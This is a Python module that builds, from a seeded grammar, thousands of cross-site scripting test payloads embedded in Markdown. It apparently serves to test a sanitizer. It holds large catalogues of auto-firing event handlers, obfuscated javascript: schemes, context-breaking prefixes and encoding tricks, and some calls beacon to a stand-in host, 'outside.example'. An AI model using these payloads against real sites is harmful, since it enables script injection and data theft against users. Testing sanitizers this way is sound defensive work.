"""Texts that try to run a script, load from elsewhere or break out of where they stand: made from a grammar.

Tags × handlers × ways to write a call × schemes × places in Markdown × mutations, with a fixed seed. Each carries its
own number: what runs says `ran(number)`, what loads asks `//outside.example/number`.
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

OUTSIDE = "outside.example"
FIRST = 10_001
"""The first number: none of them stands in a page by chance."""

CALLS = (
    "ran({n})", "ran({n})", "ran({n})", "alert({n})", "confirm({n})", "top.ran({n})", "parent.ran({n})",
    "self['ran']({n})", "ran`{n}`", "[{n}].map(ran)", "[{n}].find(ran)", "setTimeout(ran,0,{n})",
    "setTimeout('ran({n})')", "Function('ran({n})')()", "eval('ran({n})')", "Reflect.apply(ran,this,[{n}])",
    "new Promise(f=>f({n})).then(ran)", "(()=>ran({n}))()", "void(ran({n}))", "throw(onerror=()=>ran({n}),1)",
    "location='javascript:ran({n})'", "import('data:text/javascript,ran({n})')", "fetch('//outside.example/{n}')",
    "new(Image)().src='//outside.example/{n}'", "navigator.sendBeacon('//outside.example/{n}')",
)  # fmt: skip

# Fire by themselves as soon as they stand in a page
FIRING = (
    ("img", "src=x", "onerror"), ("img", "src=data:,", "onerror"), ("img", "srcset=x", "onerror"),
    ("svg", "", "onload"), ("iframe", "", "onload"), ("iframe", "srcdoc=x", "onload"), ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"), ("video><source", "src=x", "onerror"), ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"), ("input", "type=image src=x", "onerror"), ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"), ("button", "autofocus", "onfocus"), ("a", "href=# autofocus", "onfocus"),
    ("p", "tabindex=0 autofocus", "onfocus"), ("p", "contenteditable autofocus", "onfocus"), ("style", "", "onload"),
    ("link", "rel=stylesheet href=data:text/css,", "onload"), ("script", "src=data:,", "onload"),
    ("script", "src=x:", "onerror"), ("object", "data=x:", "onerror"), ("embed", "src=data:text/plain,", "onload"),
    ("svg><animate", "attributeName=x dur=1s", "onbegin"), ("svg><set", "attributeName=x", "onbegin"),
    ("svg><image", "href=x", "onerror"), ("marquee", "", "onstart"), ("body", "", "onpageshow"),
)  # fmt: skip

# Wait for somebody to do something; the campaign does it
WAITING = ("a", "b", "p", "x", "div", "form", "math", "label", "dialog", "table", "li", "h2", "custom-tag", "svg")
EVENTS = (
    "onclick", "onmouseover", "onmouseenter", "onpointermove", "onpointerdown", "onfocusin", "onkeydown", "oncopy",
    "onpaste", "oncut", "ondrag", "onwheel", "ontouchstart", "oncontextmenu", "onanimationstart", "ontransitionend",
    "onscroll", "oninput", "onbeforeinput", "onsubmit", "onreset", "onauxclick", "ondblclick", "onbeforetoggle",
)  # fmt: skip

SCHEMES = (
    "javascript:{c}", "JaVaScRiPt:{c}", "javascript://%0a{c}", "javascript:/*-->*/{c}", "java\tscript:{c}",
    "java\nscript:{c}", "\x01javascript:{c}", " javascript:{c}", "&#106;avascript:{c}", "&#x6A;avascript:{c}",
    "javascript&colon;{c}", "javascript&#58;{c}", "&Tab;javascript:{c}", "java&NewLine;script:{c}",
    "%6Aavascript:{c}", "javascript%3A{c}", "java\\script:{c}", "javascript\u200b:{c}", "ｊavascript:{c}",
    "vbscript:{c}", "livescript:{c}", "feed:javascript:{c}", "view-source:javascript:{c}", "jar:javascript:{c}",
    "data:text/html,<script>{c}</script>", "data:text/html;base64,{b}", "data:image/svg+xml,<svg onload={c}>",
    "data:text/javascript,{c}", "blob:{c}", "filesystem:{c}", "about:blank#{c}", "//outside.example/{n}",
    "https://a.example/?'onmouseover={c}//", 'https://a.example/"onmouseover={c}//', "/\\outside.example/{n}",
)  # fmt: skip

# What stands where the payload does, and a text that leaves it
BREAKS = (
    "", "", "", "", "", "", '">', "'>", "`>", "-->", "--!>", "</textarea>", "</title>", "</style>", "</script>",
    "</noscript>", "</select>", "]]>", "*/", '"', "'", "\\\">", "</p>", "<!--", "<![CDATA[", "<?x ", "<svg>", "<math>",
    "<math><mtext><table><mglyph><style><!--</style>", "<table><td>", "<template>", "<noscript><p title=\"",
)  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """One attempt: as somebody would type it into a text, and as bare HTML that nobody has made safe."""

    number: int
    markdown: str
    html: str


def payloads(count: int, seed: int = 20_190_610) -> list[Payload]:
    """So many payloads, the first of them the same however many are asked for. No two are alike."""
    dice = random.Random(seed)
    made = []
    for number in range(FIRST, FIRST + count):
        call = dice.choice(CALLS).format(n=number)
        markup = mutated(dice.choice(MARKUPS)(dice, call, number), dice)
        url = dice.choice(SCHEMES).format(
            c=dice.choice(IN_ADDRESSES)(call),
            n=number,
            b=base64.b64encode(f"<script>{call}</script>".encode()).decode(),
        )
        place = dice.choice(PLACES)
        if "`" in markup:
            place = place.replace("```", "~~~")  # else the fence would not open, and its end would hide what follows
        text = place.format(m=markup, u=url, n=number)
        html = markup if "{m}" in place else f'<a href="{url.replace(chr(34), "&quot;")}">x</a>'
        made.append(Payload(number, text, html))
    return made


# --- Markup ---


def handler(dice: random.Random, call: str, number: int) -> str:
    """An element that calls by itself."""
    tag, more, event = dice.choice(FIRING)
    return f"<{tag} {more} {event}={written(call, dice)}>"


def waiting(dice: random.Random, call: str, number: int) -> str:
    """An element that calls when something is done to it."""
    return f"<{dice.choice(WAITING)} {dice.choice(EVENTS)}={written(call, dice)}>x"


def script(dice: random.Random, call: str, number: int) -> str:
    """A script in one of the ways to write one."""
    return dice.choice((
        "<script>{c}</script>", "<script type=module>{c}</script>", "<script>/*<!--*/{c}//</script>",
        "<script src='data:text/javascript,{q}'></script>", "<svg><script>{c}</script></svg>",
        "<svg><script href='data:text/javascript,{q}'/></svg>", "<scr<script>ipt>{c}</scr</script>ipt>",
        "<script\x0c>{c}</script>", "<script x>{c}</script x>", "<math><script>{c}</script></math>",
        "<script async defer src=//outside.example/{n}></script>", "<script>\u2028{c}</script>",
    )).format(c=call, q=quote(call), n=number)  # fmt: skip


def framed(dice: random.Random, call: str, number: int) -> str:
    """A frame, a form or a link that leads into a script."""
    inner = f"<script>{call.replace('ran', 'parent.ran', 1) if call.startswith('ran') else call}</script>"
    return dice.choice((
        "<iframe src='javascript:{q}'></iframe>", "<iframe srcdoc=\"{i}\"></iframe>",
        "<object data='javascript:{q}'></object>",
        "<embed src='javascript:{q}'>", "<form action='javascript:{q}'><button>x</button></form>",
        "<form><button formaction='javascript:{q}'>x</button></form>",
        "<input type=submit formaction='javascript:{q}'>",
        "<a href='javascript:{q}'>x</a>", "<a href='java&#9;script:{q}'>x</a>", "<a href=' &#14; javascript:{q}'>x</a>",
        "<svg><a xlink:href='javascript:{q}'><text y=9>x</text></a></svg>", "<math href='javascript:{q}'>x</math>",
        "<a target=_self href='javascript:{q}'>x</a>", "<meta http-equiv=refresh content='0;url=javascript:{q}'>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload={q}>#x'></svg>",
        "<base href='javascript:/'><a href='/{q}'>x</a>",
    )).format(q=quote(call, safe="()'`[],.=>/:;!{}").replace("'", "%27"), i=inner.replace('"', "&quot;"))  # fmt: skip


def loading(dice: random.Random, call: str, number: int) -> str:
    """Something that would be fetched from another site."""
    return dice.choice((
        "<img src=//{o}/{n}>", "<img srcset=//{o}/{n}>", "<video poster=//{o}/{n}>", "<video src=//{o}/{n}>",
        "<link rel=stylesheet href=//{o}/{n}>", "<style>@import '//{o}/{n}';</style>",
        "<object data=//{o}/{n}></object>",
        "<p style='background:url(//{o}/{n})'>x</p>", "<svg><image href=//{o}/{n} /></svg>", "<embed src=//{o}/{n}>",
        "<iframe src=//{o}/{n}></iframe>", "<link rel=icon href=//{o}/{n}>",
        "<picture><source srcset=//{o}/{n}><img></picture>",
        "<input type=image src=//{o}/{n}>", "<audio src=//{o}/{n} autoplay>",
        "<table background=//{o}/{n}><td>x</table>",
        "<style>@font-face{{font-family:x;src:url(//{o}/{n})}}p{{font-family:x}}</style><p>x</p>",
        "<link rel=manifest href=//{o}/{n}>", "<script type=module>import '//{o}/{n}'</script>",
    )).format(o=OUTSIDE, n=number)  # fmt: skip


MARKUPS: tuple[Callable[[random.Random, str, int], str], ...] = (
    handler, handler, handler, handler, waiting, waiting, script, script, framed, framed, loading,
)  # fmt: skip


# --- Ways to write a call ---


def entities(call: str, dice: random.Random) -> str:
    """Some or all of its characters as references."""
    part = dice.choice((0.3, 1.0))
    how = dice.choice(("&#{};", "&#{:07d};", "&#x{:x};", "&#X{:X};"))
    return "".join(how.format(ord(one)) if dice.random() < part else one for one in call)


def escaped(call: str, dice: random.Random) -> str:
    """The name with one of its letters as an escape of JavaScript."""
    return call.replace("ran", dice.choice(("r\\u0061n", "r\\u{61}n", "\\u0072an")), 1) if "'ran" not in call else call


def packed(call: str, dice: random.Random) -> str:
    """In base 64, to be unpacked and run."""
    return f"eval(atob('{base64.b64encode(call.encode()).decode()}'))"


def written(call: str, dice: random.Random) -> str:
    """A call as the value of an attribute: encoded, and quoted in one of the ways."""
    how = dice.choice((None, None, entities, escaped, packed))
    call = how(call, dice) if how else call
    marks = [mark for mark in ("'", '"') if mark not in call]
    if not set(call) & set(" >'\"`=\t"):
        marks.append("")
    mark = dice.choice(marks or ['"'])
    return f"{mark}{call}{mark}"


IN_ADDRESSES: tuple[Callable[[str], str], ...] = (
    lambda call: call, quote, lambda call: quote(call, safe="()"),
    lambda call: call.replace("(", "%28"),
)  # fmt: skip


# --- Mutations ---


def mixed_case(text: str, dice: random.Random) -> str:
    """Letters of the first tag's name in any case."""
    end = text.find(" ")
    return "".join(dice.choice((one.upper(), one.lower())) for one in text[:end]) + text[end:] if end > 0 else text


def other_blanks(text: str, dice: random.Random) -> str:
    """Another character where a blank was expected."""
    return text.replace(" ", dice.choice(("/", "\t", "\n", "\x0c", "\r", "/x/", "  ", "\u00a0", "\x0b")), 1)


def unclosed(text: str, dice: random.Random) -> str:
    """Without its last bracket."""
    return text.removesuffix(">") + dice.choice(("", "//", " x=", "<", "\n"))


def with_nothing_inside(text: str, dice: random.Random) -> str:
    """A character that some readers drop, somewhere in the first words."""
    at = dice.randrange(1, min(len(text), 12))
    return text[:at] + dice.choice(("\x00", "\u200b", "\ufeff", "\u202e", "\xad", "\x08", "\u2029")) + text[at:]


def twice_opened(text: str, dice: random.Random) -> str:
    """With another beginning of a tag before it."""
    return dice.choice(("<", "<<", "<a ", "<!", "<p title='", "<x/", "<%", "</")) + text


def in_references(text: str, dice: random.Random) -> str:
    """Its brackets as references, once or twice over, or as their full-width twins."""
    left, right = dice.choice(
        (("&lt;", "&gt;"), ("&amp;lt;", "&amp;gt;"), ("&#60;", "&#62;"), ("＜", "＞"), ("\\<", "\\>"))
    )
    return text.replace("<", left).replace(">", right)


MUTATIONS: tuple[Callable[[str, random.Random], str], ...] = (
    mixed_case, other_blanks, unclosed, with_nothing_inside, twice_opened, in_references,
)  # fmt: skip


def mutated(text: str, dice: random.Random) -> str:
    """The markup with none to two mutations, behind what might leave the place where it stands."""
    for mutate in dice.sample(MUTATIONS, dice.choice((0, 0, 0, 1, 1, 2))):
        text = mutate(text, dice)
    return dice.choice(BREAKS) + text


# --- Places in Markdown ---

PLACES = (
    "{m}", "{m}", "{m}", "{m}", "Words {m} words", "> {m}", "- {m}\n  - {m}", "1. {m}", "## {m}", "{m}\n===", "`{m}`",
    "``{m}``",
    "**{m}**", "~~{m}~~", "*{m}*", "    {m}", "```{m}\n{m}\n```", "~~~ js {m}\n{m}\n~~~",
    "| {m} | b |\n|---|---|\n| {m} | c |",
    "x[^{n}]\n\n[^{n}]: {m}", "x[^{m}]\n\n[^{m}]: x", "[[{m}]]", "{{{{point:{m}}}}}", "[{m}](http://a.example/)",
    "[{m}]({u})",
    "![{m}](/x.png)", '![x](/x.png "{m}")', '[x](http://a.example/ "{m}")',
    "[x][r{n}]\n\n[r{n}]: http://a.example '{m}'",
    "https://a.example/{m}", "<http://a.example/{m}>", "{m}\\\n{m}", "<p>\n{m}", "agreed {m}", "Sam to {m} by Friday",
    "idea: {m}",
    "[x]({u})", "[x](<{u}>)", "![x]({u})", "![x](<{u}>)", "<{u}>", "[x][r{n}]\n\n[r{n}]: {u}",
    "[r{n}]\n\n[r{n}]: <{u}> 'x'",
    "[![x]({u})]({u})", "x[^{n}]\n\n[^{n}]: [x]({u})", "| [x]({u}) | b |\n|---|---|\n| ![x]({u}) | c |",
    "[x]({u}){{onclick=ran({n})}}",
)  # fmt: skip
